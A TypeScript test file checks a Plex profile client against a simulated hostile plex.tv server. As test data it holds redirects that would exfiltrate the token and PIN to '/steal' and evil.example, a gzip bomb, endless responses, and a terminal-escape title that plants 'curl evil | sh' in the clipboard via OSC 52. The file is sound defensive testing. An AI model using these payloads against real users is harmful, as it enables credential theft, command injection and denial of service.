// A hostile plex.tv answering the profile step: redirects that would carry the account token or
// the PIN elsewhere, answers without end, names built to steer a terminal. Real fetch, loopback.

import type { IncomingMessage, ServerResponse } from 'node:http'
import { gzipSync } from 'node:zlib'
import { afterEach, describe, expect, it, vi } from 'vitest'
import type { ClientsOptions } from '../../src/main/profiles/clients-request'
import { listProfiles } from '../../src/main/profiles/home-users'
import { createProfileStep, type ProfileChoice } from '../../src/main/profiles/profile-step'
import { switchProfile } from '../../src/main/profiles/switch-profile'
import {
  startHostileServer,
  writeEndless,
  type Handler,
  type HostileServer,
  type RecordedRequest
} from './hostile-server'

const TOKEN = 'HostileAccountToken'
const CLIENT_ID = 'hostile-profiles-client'
const PIN = '4921'
const DEVICE = {
  product: 'Hostile Test',
  version: '1.0.0',
  platform: 'Linux',
  platformVersion: '6.1',
  device: 'Linux',
  deviceName: 'test-host'
}
const TOO_LARGE = 'plex.tv sent an answer that is too large'
const PROTECTED = {
  uuid: 'p-1',
  title: 'Alex',
  admin: false,
  restricted: false,
  protected: true
}

const servers: HostileServer[] = []
afterEach(async () => {
  vi.restoreAllMocks()
  await Promise.all(servers.splice(0).map((server) => server.close()))
})

async function serve(name: string, handler: Handler, log?: RecordedRequest[]) {
  const server = await startHostileServer(name, handler, log)
  servers.push(server)
  return server
}

function optionsFor(server: HostileServer, timeoutMs = 10_000): ClientsOptions {
  return {
    fetch,
    clientsUrl: server.origin,
    token: TOKEN,
    clientIdentifier: CLIENT_ID,
    device: DEVICE,
    timeoutMs
  }
}

function sendJson(res: ServerResponse, status: number, body: unknown): void {
  res.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(body))
}

const isSwitch = (req: IncomingMessage) => req.method === 'POST' && /\/switch/.test(req.url ?? '')

describe('hostile plex.tv: the profile step never follows a redirect', () => {
  it.each([301, 302, 303, 307, 308])('%i on the Home list', async (status) => {
    const log: RecordedRequest[] = []
    const elsewhere = await serve('B', (_req, res) => sendJson(res, 200, { users: [] }), log)
    const plex = await serve(
      'A',
      (_req, res) => res.writeHead(status, { location: `${elsewhere.origin}/x?t=${TOKEN}` }).end(),
      log
    )
    expect(await listProfiles(optionsFor(plex))).toEqual({
      ok: false,
      kind: 'unavailable',
      message: `plex.tv answered with a redirect to ${elsewhere.origin}`
    })
    expect(elsewhere.requests).toEqual([])
    expect(log.map((request) => request.server)).toEqual(['A'])
  })

  it('307 on a switch with a PIN: neither token nor PIN goes further', async () => {
    const log: RecordedRequest[] = []
    const elsewhere = await serve('B', (_req, res) => sendJson(res, 201, { authToken: 'x' }), log)
    const plex = await serve(
      'A',
      (_req, res) =>
        res.writeHead(307, { location: `${elsewhere.origin}/steal?pin=${PIN}&t=${TOKEN}` }).end(),
      log
    )
    const result = await switchProfile({ ...optionsFor(plex), uuid: 'p-1', pin: PIN })
    expect(result).toEqual({
      ok: false,
      kind: 'unavailable',
      message: `plex.tv answered with a redirect to ${elsewhere.origin}`
    })
    expect(elsewhere.requests).toEqual([])
    expect(log).toHaveLength(1)
    expect(log[0]?.url).toBe(`/api/v2/home/users/p-1/switch?pin=${PIN}`)
  })
})

describe('hostile plex.tv: answers are bounded', () => {
  it('an endless Home list is cut off', async () => {
    const maxChunks = 4096 // 256 MiB: far more than is read, and still bounded
    let written: Promise<number> = Promise.resolve(0)
    const plex = await serve('A', (_req, res) => {
      res.writeHead(200, { 'content-type': 'application/json' })
      res.write('{"users":[')
      written = writeEndless(
        res,
        Buffer.from(`{"uuid":"a","title":"${'x'.repeat(65_000)}"},`),
        maxChunks
      )
    })
    expect(await listProfiles(optionsFor(plex))).toEqual({
      ok: false,
      kind: 'unavailable',
      message: TOO_LARGE
    })
    expect(await written).toBeLessThan(maxChunks)
  })

  it('a small gzip answer that inflates past 1 MiB is refused', async () => {
    const bomb = gzipSync(Buffer.alloc(16 * 1024 * 1024, 0x20))
    expect(bomb.length).toBeLessThan(64 * 1024)
    const plex = await serve('A', (req, res) => {
      res.writeHead(isSwitch(req) ? 201 : 200, {
        'content-type': 'application/json',
        'content-encoding': 'gzip'
      })
      res.end(bomb)
    })
    expect(await listProfiles(optionsFor(plex))).toEqual({
      ok: false,
      kind: 'unavailable',
      message: TOO_LARGE
    })
    expect(await switchProfile({ ...optionsFor(plex), uuid: 'p-1' })).toEqual({
      ok: false,
      kind: 'unavailable',
      message: TOO_LARGE
    })
  })
})

describe('hostile plex.tv: names are cleaned before anyone prints them', () => {
  it('titles with OSC 52, CSI, bidi overrides and line breaks', async () => {
    const plex = await serve('A', (_req, res) =>
      sendJson(res, 200, {
        users: [
          { uuid: 'u1', title: '\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007Kids' },
          { uuid: 'u2', title: 'Sam\u001b[2J\u001b[H\r\nroot# ' },
          { uuid: 'u3', title: '\u202eexe.txt', username: 'x' },
          { uuid: 'u4', title: '\u009b31mC1' }
        ]
      })
    )
    const result = await listProfiles(optionsFor(plex))
    if (!result.ok) throw new Error(result.message)
    expect(result.profiles.map((p) => p.title)).toEqual(['Kids', 'Sam root#', 'exe.txt', 'C1'])
  })
})

describe('hostile plex.tv: the token and the PIN go nowhere else', () => {
  it('addresses in the answers are never visited; only the clients origin sees the token', async () => {
    const log: RecordedRequest[] = []
    const elsewhere = await serve('B', (_req, res) => sendJson(res, 200, {}), log)
    const plex = await serve(
      'A',
      (req, res) => {
        if (!isSwitch(req)) {
          return sendJson(res, 200, {
            users: [
              { uuid: 'p-1', title: 'Alex', protected: true, thumb: `${elsewhere.origin}/a.png` },
              { uuid: 'p-2', title: 'Kids', thumb: `${elsewhere.origin}/b.png` }
            ]
          })
        }
        if (!req.url?.endsWith(`pin=${PIN}`)) {
          return sendJson(res, 403, { errors: [{ code: 1041, message: 'Invalid PIN' }] })
        }
        res.writeHead(201, {
          'content-type': 'application/json',
          location: `${elsewhere.origin}/next`
        })
        res.end(JSON.stringify({ authToken: 'ProfileToken', thumb: `${elsewhere.origin}/c.png` }))
      },
      log
    )
    const options = optionsFor(plex)
    const listed = await listProfiles(options)
    if (!listed.ok) throw new Error(listed.message)
    const step = createProfileStep(listed.profiles, options)
    expect(await step.choose('Alex', '0000')).toMatchObject({ kind: 'wrong-pin' })
    expect(await step.choose('Alex', PIN)).toMatchObject({
      kind: 'switched',
      token: 'ProfileToken'
    })
    expect(elsewhere.requests).toEqual([])
    expect(log.map((r) => [r.server, r.headers['x-plex-token']])).toEqual([
      ['A', TOKEN],
      ['A', TOKEN],
      ['A', TOKEN]
    ])
    // The PIN travels only in the query of its own switch, never as a header or elsewhere.
    const withPin = log.filter((r) => JSON.stringify(r).includes(PIN))
    expect(withPin.map((r) => r.url)).toEqual([`/api/v2/home/users/p-1/switch?pin=${PIN}`])
  })

  it('the PIN is in no result, message or console line, whatever goes wrong', async () => {
    const consoleLines: unknown[] = []
    for (const method of ['log', 'info', 'warn', 'error', 'debug'] as const) {
      vi.spyOn(console, method).mockImplementation((...args) => void consoleLines.push(args))
    }
    const failures: ((req: IncomingMessage, res: ServerResponse) => void)[] = [
      (_req, res) =>
        sendJson(res, 403, { errors: [{ code: 1041, message: `Invalid PIN ${PIN}` }] }),
      (req, res) =>
        sendJson(res, 400, { errors: [{ code: 1, message: `Bad request ${req.url}` }] }),
      (req, res) => sendJson(res, 500, { errors: [{ code: 1, message: `Broke on ${req.url}` }] }),
      (req, res) => res.writeHead(302, { location: `https://evil.example${req.url}` }).end(),
      (req, res) =>
        res.writeHead(429, { 'retry-after': '1' }).end(`{"errors":[{"message":"${req.url}"}]}`),
      (req) => req.socket.destroy(),
      () => undefined // never answers: the timeout's own error names the URL, PIN and all
    ]
    const results: ProfileChoice[] = []
    for (const fail of failures) {
      const plex = await serve('A', fail)
      const step = createProfileStep([PROTECTED], optionsFor(plex, 500))
      results.push(await step.choose('Alex', PIN))
      expect(plex.requests.map((r) => r.url)).toEqual([`/api/v2/home/users/p-1/switch?pin=${PIN}`])
    }
    expect(results.map((r) => r.kind)).toEqual([
      'wrong-pin',
      'failed',
      'failed',
      'failed',
      'failed',
      'failed',
      'failed'
    ])
    expect(JSON.stringify(results)).not.toContain(PIN)
    expect(JSON.stringify(consoleLines)).not.toContain(PIN)
    expect(JSON.stringify(results)).not.toContain(TOKEN)
  })

  it('five wrong PINs in a row: the fifth ends the step, no sixth request', async () => {
    const plex = await serve('A', (_req, res) =>
      sendJson(res, 403, { errors: [{ code: 1041, message: 'Invalid PIN' }] })
    )
    const step = createProfileStep([PROTECTED], optionsFor(plex))
    const kinds: string[] = []
    for (let i = 0; i < 8; i++) kinds.push((await step.choose('p-1', `${1000 + i}`)).kind)
    expect(kinds).toEqual([
      'wrong-pin',
      'wrong-pin',
      'wrong-pin',
      'wrong-pin',
      ...Array(4).fill('failed')
    ])
    expect(plex.requests).toHaveLength(5)
  })
})
